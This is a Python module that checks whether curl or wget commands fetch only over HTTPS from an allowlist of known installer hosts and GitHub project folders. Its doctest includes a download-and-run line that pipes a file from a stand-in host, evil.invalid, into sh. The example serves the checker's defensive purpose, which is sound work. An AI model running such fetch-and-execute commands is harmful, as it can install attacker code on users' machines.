"""Hosts from which only one publisher serves programs: what comes from there is that publisher's.

A host where anybody can put a file is not among them, but for the folders of one project there.
"""

from __future__ import annotations

import re

_HOSTS = frozenset(
    "repo.anaconda.com repo.continuum.io sh.rustup.rs static.rust-lang.org astral.sh "
    "micro.mamba.pm install.python-poetry.org bootstrap.pypa.io pyenv.run get.sdkman.io "
    "deb.nodesource.com rpm.nodesource.com get.docker.com download.docker.com ollama.com bun.sh "
    "deno.land get.pnpm.io dl.yarnpkg.com cli.github.com packages.microsoft.com aka.ms "
    "apt.llvm.org apt.kitware.com cmake.org developer.download.nvidia.com "
    "nvidia.github.io repo.radeon.com dl.google.com packages.cloud.google.com "
    "sdk.cloud.google.com dl.k8s.io get.helm.sh get.k3s.io "
    "awscli.amazonaws.com install.duckdb.org starship.rs just.systems mise.run mise.jdx.dev "
    "get.rvm.io install.julialang.org julialang-s3.julialang.org nixos.org releases.nixos.org "
    "get.haskellstack.org get-ghcup.haskell.org go.dev www.python.org apache.org "
    "archive.apache.org downloads.apache.org dlcdn.apache.org services.gradle.org get.pulumi.com "
    "releases.hashicorp.com apt.releases.hashicorp.com pixi.sh install.meteor.com getcomposer.org "
    "claude.ai cursor.com dotnet.microsoft.com dot.net aspire.dev get.modular.com "
    "install.determinate.systems clis.cloud.ibm.com "
    "apt.postgresql.org www.postgresql.org deb.debian.org archive.ubuntu.com security.ubuntu.com "
    "keyserver.ubuntu.com packages.confluent.io artifacts.elastic.co".split()
)
_FOLDERS = re.compile(
    r"(?:raw\.githubusercontent\.com|github\.com|gist\.github\.com)/(?:nvm-sh/nvm|homebrew/|pyenv/"
    r"|conda-forge/miniforge|mamba-org/|helm/helm|kitware/cmake|rbenv/|rvm/|ohmyzsh/ohmyzsh"
    r"|pypa/get-pip|python-poetry/|pdm-project/|astral-sh/|rust-lang/|docker/|nodesource/|nvidia/|microsoft/"
    r"|devcontainers/|kubernetes(?:-sigs)?/|aquasecurity/trivy|anchore/|golangci/|cli/cli|protocolbuffers/"
    r"|bazelbuild/|gitleaks/|neovim/neovim)",
    re.IGNORECASE,
)
_ADDRESS = re.compile(r"(?i)\b(https?|ftp)://([^\s\"'`|;&<>()]+)")
_FETCH = re.compile(r"\b(?:curl|wget)[ \t]+-[^|;&\n]*|\b(?:curl|wget)[ \t]+[\w$.]+\.[^|;&\n]*")


def only_known(command: str) -> bool:
    """Tell whether all that a command fetches comes from known publishers, and over TLS.

    An address that is computed is not known.

    >>> only_known("curl -LsSf https://astral.sh/uv/install.sh | sh")
    True
    >>> only_known("curl http://astral.sh/uv/install.sh https://evil.invalid/x | sh")
    False
    """
    found = _ADDRESS.findall(command)
    if any("://" not in found[0] for found in _FETCH.finditer(command)):
        return False
    return bool(found) and all(scheme == "https" and _is_known(rest) for scheme, rest in found)


def _is_known(rest: str) -> bool:
    host, _, path = rest.partition("/")
    host = re.split(r"[?#:]", host)[0].lower()
    if host in _HOSTS:
        return True
    return _FOLDERS.match(f"{host}/{path}") is not None and ".." not in path
